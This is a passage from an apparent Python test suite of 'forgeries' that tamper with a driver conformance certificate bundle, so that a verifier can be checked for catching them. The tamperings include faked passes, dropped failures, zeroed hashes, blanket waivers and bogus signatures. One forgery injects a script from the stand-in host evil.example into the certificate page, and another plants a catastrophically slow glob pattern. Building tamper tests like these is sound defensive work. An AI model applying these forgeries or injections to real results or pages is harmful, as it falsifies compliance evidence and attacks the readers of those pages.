            demand.update(broken_by=[], holds=True, found="none")


@forgery(2)
def a_demand_is_missing(b):
    with b.json("certificate.json") as value:
        value["demands"] = [d for d in value["demands"] if d["holds"]]


@forgery(2)
def the_text_is_another(b):
    b.replace("data/CERTIFICATE.md", "does not comply", "complies")


@forgery(2)
def the_text_does_not_say_what_it_is(b):
    path = b.data / "CERTIFICATE.md"
    path.write_text("".join(path.read_text().splitlines(True)[2:]))


@forgery(2)
def the_page_is_another(b):
    b.replace("data/certificate.html", "does not comply", "complies")


@forgery(2)
def the_page_has_a_script(b):
    b.replace("data/certificate.html", "</body>", "<script src='//evil.example'></script></body>")


@forgery(2)
def the_page_of_cases_is_another(b):
    path = b.data / "report.html"
    path.write_text("<!doctype html><title>All passed</title>\n")


@forgery(2)
def the_statement_passed(b):
    with b.json("attestation.intoto.json") as value:
        value["predicate"].update(result="PASSED", failedTests=[])


@forgery(2)
def the_statement_is_about_another_library(b):
    with b.json("attestation.intoto.json") as value:
        value["subject"][0]["digest"]["sha256"] = "0" * 64


@forgery(1)
def coverage_is_greater(b):
    with b.json("coverage.json") as value:
        for row in value["rows"]:
            if row["coverage"] == "uncovered":
                row["coverage"] = "covered"


@forgery(1)
def a_sentence_is_missing(b):
    with b.json("coverage.json") as value:
        value["rows"] = [r for r in value["rows"] if r["coverage"] != "failed"]


@forgery(2)
def a_reading_is_missing(b):
    with b.json("interpretations.json") as value:
        value.pop(0)


@forgery(2)
def groups_are_fewer(b):
    with b.json("groups.json") as value:
        value.pop(0)


@forgery(2)
def a_group_is_less_certain(b):
    with b.json("groups.json") as value:
        value[0]["certainty"] = "reading"


@forgery(1)
def the_driver_is_another(b):
    with b.json("driver.json") as value:
        value["libraries"][0]["sha256"] = "0" * 64


@forgery(1)
def the_drivers_file_is_another(b):
    with b.json("driver.json") as value:
        value["icd"] = "vendor.icd"


@forgery(1)
def the_build_is_another(b):
    with b.json("suite.json") as value:
        value["build"]["commit"] = "0" * 40


@forgery(1)
def the_machine_is_another(b):
    with b.json("host.json") as value:
        value[0]["processor"] = "Quantum 9000"


@forgery(1)
def the_device_is_another(b):
    with b.json("device.json") as value:
        value["devices"][0]["name"] = "Quantum 9000"


@forgery(2)
def the_device_cannot_do_what_failed(b):
    with b.json("device.json") as value:
        value["devices"][0]["image_support"] = False


@forgery(0)
def there_is_a_second_device(b):
    with b.json("device.json") as value:
        value["devices"].append(value["devices"][0])


@forgery(2)
def a_program_is_another(b):
    path = next(b.data.glob("programs/*.c"))
    path.write_text("int main(void) { return 0; }\n")


@forgery(2)
def a_program_is_of_another_case(b):
    with b.json("programs/index.json") as value:
        first = next(iter(value.values()))
        first["case"] = "math/exp/float/default"


@forgery(2)
def a_program_is_gone_with_its_line(b):
    with b.json("programs/index.json") as value:
        name = next(iter(value))
        del value[name]
    (b.data / "programs" / f"{name}.c").unlink()


# Policy and waivers


@forgery(2)
def the_policy_permits_failures(b):
    b.replace("data/policy.toml", "undisputed = 0", "undisputed = 100")


@forgery(2)
def the_policy_demands_less(b):
    b.replace("data/policy.toml", "second_look = true", "second_look = false")


@forgery(1)
def the_policy_takes_fewer_cases(b):
    b.replace("data/policy.toml", "share = 1", "share = 3")


@forgery(1)
def the_policy_has_another_depth(b):
    b.replace("data/policy.toml", '"quick"', '"standard"')


@forgery(1)
def the_policy_has_a_famous_name(b):
    b.replace("data/policy.toml", 'name = "tiny"', 'name = "certification"')


@forgery(0)
def the_policy_has_an_unknown_demand(b):
    b.replace("data/policy.toml", "flaky = 0", "flaky = 0\nfriendly = true")


@forgery(2)
def the_policy_waives_everything(b):
    b.replace("data/policy.toml", '["by_the_letter"]', '["by_the_letter", "undisputed", "reading"]')


WAIVER = """[[waiver]]
cases = "{}"
class = "{}"
reason = "as agreed"
link = "https://example.org/1"
who = "J. Doe"
until = {}
"""


@forgery(2)
def a_waiver_is_added(b):
    (b.data / "waivers.toml").write_text(WAIVER.format("*", "by_the_letter", "2036-12-31"))


@forgery(2)
def a_waiver_is_of_a_forbidden_class(b):
    (b.data / "waivers.toml").write_text(WAIVER.format("*", "undisputed", "2036-12-31"))


@forgery(0)
def a_waiver_is_no_toml(b):
    (b.data / "waivers.toml").write_text("[[waiver\n")


@forgery(0)
def a_waiver_lacks_its_reason(b):
    (b.data / "waivers.toml").write_text('[[waiver]]\ncases = "*"\nclass = "by_the_letter"\n')


# Signatures


@forgery(0, hashed=False)
def a_signature_is_no_signature(b):
    (b.top / "tagmanifest-sha256.txt.sig").write_text("signed by everybody\n")


@forgery(0, hashed=False)
def a_signature_has_another_name(b):
    (b.top / "tagmanifest-sha256.txt.asc").write_text("signed by everybody\n")


# These forgeries also write all files that are made from the changed records.


@forgery(3, derived=True)
def all_follows_from_a_call_that_passes(b):
    b.record(fails_by_the_letter, without_verdict)


@forgery(3, derived=True)
def all_follows_from_failures_that_pass(b):
    def change(record):
        if record["type"] == "case" and fails(record):
            without_verdict(record)
            m = record.get("measurement", {})
            m.pop("failures", None), m.pop("worst", None), m.pop("profile", None)
            m.pop("rule", None), m.pop("failing_rules", None)
            if m:
                m.update(failing=0, max_ulp=0.0, rules={"within_limit": m["inputs"]}, referred=0)
                m["histogram"] = [m["inputs"], *[0] * (len(m["histogram"]) - 1)]
        return record

    b.each_record(change)


@forgery(1, derived=True)
def all_follows_from_a_function_that_is_skipped(b):
    def change(record):
        without_verdict(record)
        record.pop("measurement")
        record.update(outcome="skip", reason="the compiler says that it has no tgamma")

    b.record(fails_numerically, change)


@forgery(3, derived=True)
def all_follows_from_a_call_that_is_skipped(b):
    def change(record):
        without_verdict(record)
        record.update(outcome="skip", reason="the driver says that it has no samplers")

    b.record(fails_by_the_letter, change)


@forgery(2, derived=True)
def all_follows_from_a_looser_limit(b):
    the_limit_is_loosened(b)


@forgery(1, derived=True)
def all_follows_from_a_lesser_certainty(b):
    a_failure_is_less_certain_throughout(b)


@forgery(3, derived=True)
def all_follows_from_smaller_errors(b):
    """The histogram has one bin, and there is no worst answer."""

    def change(record):
        m = record["measurement"]
        m.pop("worst"), m.pop("rule"), m.pop("profile", None)
        m.update(max_ulp=0.0)
        m["histogram"] = [m["inputs"], *[0] * (len(m["histogram"]) - 1)]

    b.record(measured, change)


@forgery(3, derived=True)
def all_follows_from_a_smoother_curve(b):
    def change(record):
        m = record["measurement"]
        m["profile"] = [[x, 0.0] for x, _ in m["profile"]]

    b.record(lambda r: measured(r) and "profile" in r["measurement"], change)


@forgery(3, derived=True)
def all_follows_from_other_bits(b):
    b.record(measured, lambda r: r["measurement"].update(digest="0" * 32))


@forgery(2, derived=True)
def all_follows_from_another_seed(b):
    b.headers(lambda r: r.update(seed=2))


@forgery(1, derived=True)
def all_follows_from_a_call_that_almost_passes(b):
    def change(record):
        record["certainty"] = "reading"
        for row in [*record["failing"], *record.get("rerun", {}).get("failing", [])]:
            row["certainty"] = "reading"

    b.record(fails_by_the_letter, change)


@forgery(1, derived=True, status=2)
def all_follows_from_another_commit(b):
    b.headers(lambda r: r["build"].update(commit="0" * 40))


@forgery(1, derived=True, status=2)
def all_follows_from_a_clean_tree(b):
    b.headers(lambda r: r["build"].update(tree="clean", build_id="0" * 40))


@forgery(1, derived=True)
def all_follows_from_another_library(b):
    def change(record):
        record["driver"]["libraries"][0]["sha256"] = "0" * 64

    b.headers(change)
    with b.json("device.json") as value:
        value["drivers"][0]["libraries"][0]["sha256"] = "0" * 64


@forgery(3, derived=True, status=2)
def all_follows_from_another_library_and_its_digest(b):
    def change(driver):
        driver["libraries"][0]["sha256"] = "0" * 64
        names = {f"{x['sha256']}  {x['path'].split('/')[-1]}\n" for x in driver["libraries"]}
        digest = hashlib.sha256("".join(sorted(names)).encode()).hexdigest()
        driver["digest"] = digest
        return digest

    def one(record):
        if record["type"] == "run":
            change(record["driver"])
        elif record["type"] == "end":
            record["driver"]["digest"] = digest
        return record

    with b.json("device.json") as value:
        digest = change(value["drivers"][0])
    b.each_record(one)


@forgery(1, derived=True)
def all_follows_from_a_policy_with_a_famous_name(b):
    b.replace("data/policy.toml", 'name = "tiny"', 'name = "certification"')
    b.replace("data/policy.toml", "undisputed = 0", "undisputed = 1000")


@forgery(1, derived=True)
def all_follows_from_fewer_cases(b):
    dropped(b, fails_numerically, header=True)


@forgery(1, derived=True)
def all_follows_from_a_device_that_cannot(b):
    def change(record):
        if record["type"] == "case" and "/half" in record["id"]:
            record["reason"] = "needs patience"
        return record

    b.each_record(change)


@forgery(0, derived=True)
def all_follows_from_a_second_try_that_is_hidden(b):
    def change(record):
        record["rerun"] = {"outcome": "pass", "reason": "", "seconds": 0.1, "failing": []}

    b.record(lambda r: fails(r) and "rerun" in r, change)


@forgery(0, derived=True)
def all_follows_from_a_waiver_of_long_ago(b):
    """The day has no hyphens. Compared as text, this day is after all other days of 2020."""
    text = WAIVER.format("*", "by_the_letter", '"20200101"')
    (b.data / "waivers.toml").write_text(text)


@forgery(2)
def a_glob_takes_very_long(b):
    b.replace("data/policy.toml", '"math/exp2/half/*"', f'"*{"e*" * 60}z", "math/exp2/half/*"')


@forgery(0, derived=True)
def all_follows_from_a_dangerous_line(b):
    the_line_to_repeat_is_another(b)


@forgery(1, derived=True)
def all_follows_from_another_driver_at_the_end(b):
    the_driver_at_the_end_is_another(b)


@forgery(3, derived=True, status=2)
def all_follows_from_another_device(b):
    the_device_cannot_do_what_failed(b)


@forgery(1, derived=True)
def all_follows_from_a_baseline(b):
    a_header_names_a_baseline(b)


@forgery(2, derived=True)
def all_follows_from_more_inputs(b):
    more_inputs_are_claimed(b)


@forgery(2, derived=True)
def all_follows_from_a_sample_that_is_called_whole(b):
    a_sample_is_called_whole(b)


@forgery(0, derived=True)
def all_follows_from_a_run_that_ends_before_it_starts(b):
    b.headers(lambda r: r.update(started="2036-01-01T00:00:00Z"))


@forgery(3, derived=True)
def all_follows_from_another_program(b):
    a_program_is_another(b)
